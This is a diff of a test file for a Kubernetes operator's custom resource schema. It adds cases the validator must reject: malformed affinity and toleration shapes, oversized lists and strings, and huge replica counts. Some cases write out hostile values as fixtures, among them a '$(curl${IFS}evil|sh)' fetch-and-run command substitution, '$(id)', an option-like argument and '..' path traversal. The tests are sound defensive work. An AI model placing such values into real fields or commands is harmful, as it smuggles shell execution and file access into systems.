@@ -415,6 +415,107 @@ INVALID_SPECS: list[tuple[str, Json, list[str]]] = [
         {"serving": {"streamChunking": {"hopGrowth": "time_based"}}},
         ["spec.serving.streamChunking.hopGrowth", "Unsupported value"],
     ),
+    # --- issue 21: shapes and sizes the operator used to crash on or carry (M2, M3, L1)
+    (
+        "affinity-required-a-string",
+        {
+            "serving": {
+                "affinity": {
+                    "nodeAffinity": {"requiredDuringSchedulingIgnoredDuringExecution": "x"}
+                }
+            }
+        },
+        ["spec.serving.affinity.nodeAffinity.requiredDuringSchedulingIgnoredDuringExecution"],
+    ),
+    (
+        "affinity-term-a-string",
+        {
+            "serving": {
+                "affinity": {
+                    "nodeAffinity": {
+                        "requiredDuringSchedulingIgnoredDuringExecution": {
+                            "nodeSelectorTerms": ["x"]
+                        }
+                    }
+                }
+            }
+        },
+        ["nodeSelectorTerms[0]", "object"],
+    ),
+    (
+        "affinity-values-not-a-list",
+        {
+            "serving": {
+                "affinity": {
+                    "nodeAffinity": {
+                        "requiredDuringSchedulingIgnoredDuringExecution": {
+                            "nodeSelectorTerms": [
+                                {"matchExpressions": [{"key": "k", "operator": "In", "values": 5}]}
+                            ]
+                        }
+                    }
+                }
+            }
+        },
+        ["matchExpressions[0].values", "array"],
+    ),
+    (
+        "affinity-too-many-values",
+        {
+            "serving": {
+                "affinity": {
+                    "nodeAffinity": {
+                        "requiredDuringSchedulingIgnoredDuringExecution": {
+                            "nodeSelectorTerms": [
+                                {
+                                    "matchExpressions": [
+                                        {
+                                            "key": "k",
+                                            "operator": "In",
+                                            "values": [f"v{i}" for i in range(65)],
+                                        }
+                                    ]
+                                }
+                            ]
+                        }
+                    }
+                }
+            }
+        },
+        ["matchExpressions[0].values", "must have at most 64 items"],
+    ),
+    (
+        "toleration-unknown-operator",
+        {"serving": {"tolerations": [{"key": "k", "operator": "Matches"}]}},
+        ["spec.serving.tolerations[0].operator", "Unsupported value"],
+    ),
+    (
+        "node-selector-value-too-long",
+        {"serving": {"nodeSelector": {"pool": "x" * 64}}},
+        ["spec.serving.nodeSelector.pool", "Too long"],
+    ),
+    (
+        "revision-command-substitution",
+        {"model": {"revision": "$(curl${IFS}evil|sh)"}},
+        ["spec.model.revision", "should match"],
+    ),
+    (
+        "revision-option-like",
+        {"model": {"revision": "--pvc-root=/etc"}},
+        ["spec.model.revision", "should match"],
+    ),
+    ("revision-dot-dot", {"model": {"revision": "a/../../x"}}, ["must not contain '..'"]),
+    (
+        "uri-dot-dot-segment",
+        {"model": {"uri": "pvc://model-store/../etc"}},
+        ["spec.model.uri", "'.' or '..' path segments"],
+    ),
+    (
+        "uri-command-substitution",
+        {"model": {"uri": "s3://tts-models/$(id)/x"}},
+        ["spec.model.uri", "'$('"],
+    ),
+    ("uri-escape", {"model": {"uri": "s3://tts-models/a\x1bb"}}, ["spec.model.uri", "control"]),
 ]
 
 
@@ -449,21 +550,33 @@ def test_every_schema_field_is_described() -> None:
     assert undocumented == [], f"schema nodes without a description: {undocumented}"
 
 
-def test_unknown_fields_are_preserved_only_for_core_kubernetes_types() -> None:
+def test_unknown_fields_are_preserved_only_for_the_decisions_inputs() -> None:
+    """Tolerations and affinity are typed (the core types' fields) since issue 21: an
+    untyped subtree could hold anything, of any size, and crash the operator's planning."""
     schema = _crd()["spec"]["versions"][0]["schema"]["openAPIV3Schema"]
     preserving = {
         path
         for path, node in _schema_nodes(schema, "")
         if node.get("x-kubernetes-preserve-unknown-fields")
     }
-    assert preserving == {
-        ".spec.serving.tolerations[]",
-        ".spec.serving.affinity",
-        ".spec.serving.affinity.nodeAffinity",
-        ".spec.serving.affinity.podAffinity",
-        ".spec.serving.affinity.podAntiAffinity",
-        ".status.autoscaling.lastDecision.inputs",
-    }
+    assert preserving == {".status.autoscaling.lastDecision.inputs"}
+
+
+def test_every_spec_list_map_and_string_is_bounded() -> None:
+    """Issue 21 M3: every array has maxItems, every map maxProperties, every free string
+    maxLength (enums and patterns of bounded repetition aside), so that no spec can grow to
+    the object size limit through one field."""
+    schema = _crd()["spec"]["versions"][0]["schema"]["openAPIV3Schema"]
+    unbounded = []
+    for path, node in _schema_nodes(schema["properties"]["spec"], ".spec"):
+        kind = node.get("type")
+        if kind == "array" and "maxItems" not in node:
+            unbounded.append(path)
+        if kind == "object" and "additionalProperties" in node and "maxProperties" not in node:
+            unbounded.append(path)
+        if kind == "string" and "enum" not in node and "maxLength" not in node:
+            unbounded.append(path)
+    assert unbounded == []
 
 
 def test_cel_messages_name_the_field() -> None:
@@ -940,6 +1053,17 @@ INVALID_STATUSES: list[tuple[str, Json, list[str]]] = [
         "condition-status",
         {"conditions": [{"type": "Available", "status": "Yes"}]},
         ["status.conditions[0].status", "Unsupported value"],
+    ),
+    # Issue 21 L3: a desired count that would have the operator loop for minutes.
+    (
+        "desired-replicas-huge",
+        {"autoscaling": {"desiredReplicas": 2**31 - 1}},
+        ["status.autoscaling.desiredReplicas", "less than or equal to 10000"],
+    ),
+    (
+        "desired-replicas-negative",
+        {"autoscaling": {"desiredReplicas": -5}},
+        ["status.autoscaling.desiredReplicas", "greater than or equal to 0"],
     ),
 ]
 
